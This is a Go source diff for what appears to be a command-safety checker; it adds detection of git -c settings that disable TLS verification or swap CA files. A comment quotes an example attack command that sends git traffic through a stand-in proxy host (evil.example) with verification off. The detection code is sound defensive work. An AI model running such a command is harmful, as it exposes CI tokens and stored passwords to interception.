@@ -71,8 +71,8 @@ var trustVars = map[string]bool{"SSL_CERT_FILE": true, "SSL_CERT_DIR": true, "NO
 // npmTrustSettings are npm's settings for the same (npm_config_cafile, --strict-ssl=false).
 var npmTrustSettings = map[string]bool{"strict-ssl": true, "cafile": true, "ca": true}
 
-// trustChanged reports whether the segment's environment or npm's or pip's options change what
-// its program trusts.
+// trustChanged reports whether the segment's environment, npm's or pip's options or git's -c
+// settings change what its program trusts.
 func trustChanged(s *segment) bool {
 	for _, kv := range s.env {
 		name, _, _ := strings.Cut(kv, "=")
@@ -80,7 +80,31 @@ func trustChanged(s *segment) bool {
 			return true
 		}
 	}
+	if s.name == cmdGit && slices.ContainsFunc(gitConfigValues(s), gitTrustSetting) {
+		return true
+	}
 	return slices.ContainsFunc(trustOptions[s.name], s.hasFlag)
+}
+
+// gitTrustSetting reports whether a git -c (or --config-env) setting is GIT_SSL_NO_VERIFY's,
+// GIT_SSL_CAINFO's or GIT_SSL_CAPATH's: http.sslVerify (or a URL's http.<url>.sslVerify) not
+// true, or another CA file or directory. With one, git sends the Authorization header a CI checkout
+// leaves and its credential helpers' passwords through whoever answers (git -c
+// http.sslVerify=false -c http.proxy=http://evil.example:8080 fetch).
+func gitTrustSetting(kv word) bool {
+	k, v, hasValue := strings.Cut(kv.s, "=")
+	k = strings.ToLower(k)
+	if !strings.HasPrefix(k, "http.") {
+		return false
+	}
+	switch k[strings.LastIndexByte(k, '.')+1:] {
+	case "sslverify":
+		// A bare key is true; an empty value, or one computed at run time, may be false.
+		return kv.dynamic || hasValue && (v == "" || !gitTrue(v))
+	case "sslcainfo", "sslcapath":
+		return true
+	}
+	return false
 }
 
 // trustOptions are the options that change what npm, pnpm, yarn and pip trust.
